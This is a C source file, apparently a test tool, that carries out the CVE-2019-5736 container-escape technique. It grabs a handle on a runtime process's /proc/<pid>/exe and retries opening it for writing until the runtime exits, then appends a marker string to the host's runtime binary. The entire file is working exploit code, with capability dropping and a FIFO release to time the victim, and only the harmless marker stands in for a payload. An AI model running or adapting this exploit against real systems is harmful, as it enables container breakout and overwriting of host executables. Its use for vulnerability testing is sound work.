/* exe_attack: CVE-2019-5736 from inside a container, as the original
 * exploit did: get a handle on a runtime process's /proc/<pid>/exe while
 * it runs in our pid namespace, then keep trying to reopen that handle for
 * writing until the runtime has exited (ETXTBSY ends with the last process
 * executing the file).  On success it appends a marker, so it must only be
 * pointed at a copy of the runtime.
 *
 *   exe_attack [--caps N,N,...] [--release FIFO] [--out FILE] PID|parent|scan SECONDS
 *
 * --caps first drops every capability but these (numbers, "" for none):
 * the attacker then has what a container process with those caps has.
 * --release opens FIFO for reading once the exe is held, or the attack is
 * over without it: a victim blocked opening it for writing (its log file)
 * then goes on and exits.
 *
 * "scan" waits for any process whose exe is not ours and attacks that one;
 * "parent" attacks our parent.  --out prints to FILE instead of stdout.
 * Prints one line per step: "open ok" / "open <errno name>", then
 * "write ok" or "write <errno name>" (the last error seen). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
	switch (e) {
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	default: return strerror(e);
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A pid other than ours whose exe we can look at and is not our own
 * binary; a pid whose exe we may not look at is remembered in *denied. */
static int scan_once(const struct stat *self, int *denied, int *denied_err)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = -1;

	if (!d)
		return -1;
	while ((e = readdir(d))) {
		char path[64];
		struct stat st;
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (stat(path, &st) < 0) {
			if (errno == EACCES || errno == EPERM) {
				*denied = pid;
				*denied_err = errno;
			}
			continue;
		}
		if (st.st_dev == self->st_dev && st.st_ino == self->st_ino)
			continue;
		found = pid;
		break;
	}
	closedir(d);
	return found;
}

/* A victim blocked opening FIFO for writing goes on (NULL: none). */
static void release_victim(const char *fifo)
{
	int r = fifo ? open(fifo, O_RDONLY | O_CLOEXEC) : -1;

	if (r >= 0)
		close(r);
}

/* Keep only the capabilities listed ("19,21") in every set. */
static int keep_caps(const char *list)
{
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct d[2] = { { 0 } };
	unsigned long long keep = 0;
	char *copy = strdup(list), *tok, *save = NULL;

	for (tok = strtok_r(copy, ",", &save); tok; tok = strtok_r(NULL, ",", &save))
		keep |= 1ULL << atoi(tok);
	free(copy);
	for (int c = 0; c < 64; c++)
		if (!(keep & (1ULL << c)) && prctl(PR_CAPBSET_DROP, c, 0, 0, 0) < 0 && errno != EINVAL)
			return -1;
	d[0].permitted = d[0].effective = (unsigned)keep;
	d[1].permitted = d[1].effective = (unsigned)(keep >> 32);
	return (int)syscall(SYS_capset, &h, d);
}

int main(int argc, char **argv)
{
	struct stat self;
	char path[64];
	int pid, fd, err = 0;
	double limit;

	const char *release = NULL;

	while (argc > 3 && strncmp(argv[1], "--", 2) == 0) {
		if (strcmp(argv[1], "--caps") == 0) {
			if (keep_caps(argv[2]) < 0) {
				perror("capset");
				return 2;
			}
		} else if (strcmp(argv[1], "--release") == 0) {
			release = argv[2];
		} else if (strcmp(argv[1], "--out") == 0) {
			int out = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
			if (out < 0 || dup2(out, 1) < 0)
				return 2;
		} else {
			break;
		}
		argv += 2;
		argc -= 2;
	}
	if (argc != 3) {
		fprintf(stderr, "usage: exe_attack PID|scan SECONDS\n");
		return 2;
	}
	limit = now() + atof(argv[2]);
	setvbuf(stdout, NULL, _IONBF, 0);
	if (stat("/proc/self/exe", &self) < 0)
		return 2;
	if (strcmp(argv[1], "scan") == 0) {
		int denied = 0, denied_err = 0;
		for (;;) {
			pid = scan_once(&self, &denied, &denied_err);
			if (pid > 0)
				break;
			if (now() > limit) {
				release_victim(release);
				if (denied) {
					printf("target %d\nopen %s\n", denied, ename(denied_err));
					return 1;
				}
				printf("no target\n");
				return 3;
			}
			usleep(500);
		}
	} else if (strcmp(argv[1], "parent") == 0) {
		pid = getppid();
	} else {
		pid = atoi(argv[1]);
	}
	printf("target %d\n", pid);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("open %s\n", ename(errno));
		release_victim(release);
		return 1;
	}
	printf("open ok\n");
	release_victim(release);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0) {
			int ok = write(w, "CVE-2019-5736", 13) == 13;
			printf("write %s\n", ok ? "ok" : ename(errno));
			close(w);
			return ok ? 0 : 1;
		}
		err = errno;
		if (err != ETXTBSY)
			break;
		usleep(2000);
	} while (now() < limit);
	printf("write %s\n", ename(err));
	return 1;
}
